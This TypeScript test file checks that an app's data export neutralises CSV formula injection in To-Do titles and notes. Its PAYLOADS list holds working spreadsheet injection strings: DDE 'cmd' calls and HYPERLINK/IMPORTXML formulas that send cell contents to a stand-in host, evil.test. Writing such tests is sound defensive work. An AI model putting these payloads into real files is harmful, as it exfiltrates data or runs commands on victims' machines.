import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { entitiesOf, unzipText } from '../../src/modules/export/test-support.ts';
import { type SignedInUser, signedInMember } from '../auth-helpers.ts';
import { createMeeting } from '../factories.ts';
import { createTestApp, type TestApp } from '../harness.ts';
import { recordFigure } from './report.ts';

// Check 24: CSV injection (issue 34 item 2). A Member writes To-Do titles and notes that a spreadsheet
// would run as formulas (OWASP's list: a cell starting with =, +, -, @, a tab or a carriage return);
// when the Owner downloads the export, no cell of any CSV file starts with one of them (each is
// written as text, behind an apostrophe, quoted), numbers stay numbers, and the JSON files keep every
// title exactly as typed, so a restore gives it back.

const PAYLOADS = [
  '=HYPERLINK("http://evil.test/?d="&B2&C2,"Open")',
  "=cmd|' /C calc'!A0",
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=IMPORTXML(CONCAT("http://evil.test/?v=", A2), "//a")',
];
const FORMULA_START = /^[=+\-@\t\r]/;
const NUMBER = /^[+-]?\d+(\.\d+)?$/;

let t: TestApp;
let owner: SignedInUser;
let member: SignedInUser;

beforeAll(async () => {
  t = await createTestApp();
  owner = await signedInMember(t, { role: 'Owner' });
  member = await signedInMember(t, { role: 'Member', org: owner.org });
  const meeting = await createMeeting(t, {
    orgId: owner.org.id,
    ownerId: owner.membership.id,
    inviteeIds: [member.membership.id],
    title: '=Leadership',
  });
  for (const title of PAYLOADS) {
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/v2/todos',
      headers: { cookie: member.cookie },
      payload: {
        title,
        ownerIds: [member.membership.id],
        tractionId: meeting.id,
        dueDate: '2030-01-31',
        contentHtml: `<p>${title.replace(/[<&]/g, '')}</p>`,
      },
    });
    expect(res.statusCode, res.body).toBe(200);
  }
});
afterAll(() => t.close());

it('writes no CSV cell a spreadsheet would run, and keeps the JSON exact', async () => {
  const res = await t.app.inject({ method: 'GET', url: '/api/v2/export', headers: { cookie: owner.cookie } });
  expect(res.statusCode).toBe(200);
  const files = unzipText(res.rawPayload);
  let cells = 0;
  let neutralised = 0;
  const live: string[] = [];
  for (const [name, text] of Object.entries(files).filter(([n]) => n.endsWith('.csv'))) {
    const rows = parse(text, { bom: true, relax_column_count: true }) as string[][];
    for (const cell of rows.flat()) {
      cells++;
      if (cell.startsWith("'") && FORMULA_START.test(cell.slice(1))) neutralised++;
      if (FORMULA_START.test(cell) && !NUMBER.test(cell)) live.push(`${name}: ${cell}`);
    }
  }
  expect(live).toEqual([]);
  // Every payload's title (and notes), and the meeting's title in each To-Do row, were neutralised.
  expect(neutralised).toBeGreaterThanOrEqual(PAYLOADS.length * 2);
  const titles = (entitiesOf(files).todos ?? []).map((r) => r.title);
  // As stored: the one string rule trims a leading tab or carriage return off a title.
  expect(titles.sort()).toEqual(PAYLOADS.map((p) => p.trim()).sort());
  recordFigure(
    24,
    'CSV injection',
    `${PAYLOADS.length} formula payloads (=, +, -, @, tab, carriage return) in To-Do titles, notes and a meeting title: 0 live formulas in ${cells} CSV cells of the export (${neutralised} written as text); the JSON keeps ${titles.length} of ${PAYLOADS.length} titles exactly`,
  );
});
